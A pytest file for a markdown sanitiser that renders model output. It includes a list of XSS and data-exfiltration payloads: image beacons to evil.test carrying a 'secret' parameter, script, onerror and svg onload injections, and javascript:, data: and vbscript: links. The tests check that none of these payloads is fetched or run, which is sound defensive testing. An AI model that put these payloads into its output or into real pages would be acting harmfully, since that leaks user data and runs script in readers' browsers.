"""What a model wrote becomes a page that calls nobody and runs nothing."""

import re

import pytest

from sandboxes import markdown

BEACONS = [
    "![x](https://evil.test/?d=secret)",
    "![x][r]\n\n[r]: https://evil.test/?d=secret",
    '<img src="https://evil.test/">',
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<iframe src=https://evil.test></iframe>",
    "<svg onload=alert(1)>",
    "<style>@import url(https://evil.test)</style>",
    '<link rel=stylesheet href="https://evil.test">',
    "<form action=https://evil.test><input name=x></form>",
    "<video poster=https://evil.test></video>",
    '<a href="https://evil.test" onclick="x()">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "<javascript:alert(1)>",
    '[x](https://a.test "onmouseover=alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x>`",
    "| a |\n|-|\n| <img src=x> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("text", BEACONS)
def test_nothing_is_fetched_or_run(text: str) -> None:
    html = markdown.render(text)
    tags = set(re.findall(r"<\s*([a-z0-9]+)", html.lower()))
    assert tags <= markdown.TAGS
    assert not re.search(r"<[^>]*\s(on\w+|src|style|poster)\s*=", html, re.I)
    assert not re.search(r'href="(?!https?:|mailto:)', html)


def test_a_link_shows_its_host() -> None:
    html = markdown.render("[our docs](https://evil.test/steal?x=1)")
    assert "(evil.test)" in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_a_link_that_is_its_address_is_shown_once() -> None:
    html = markdown.render("<https://example.test/a>")
    assert "(example.test)" not in html


def test_terminal_codes_and_hidden_marks_go() -> None:
    assert markdown.plain("\x1b[31mred\x1b[0m\x1b]0;t\x07 a\u202eb") == "red ab"


def test_a_huge_answer_is_plain_text() -> None:
    html = markdown.render("**a** " * 20_000)
    assert html.startswith("<pre>")
    assert "<strong>" not in html


def test_markdown_is_drawn() -> None:
    html = markdown.render("# T\n\n- **a**\n\n|x|\n|-|\n|1|\n\n```\ncode\n```")
    for tag in ("h1", "li", "strong", "table", "pre"):
        assert f"<{tag}>" in html
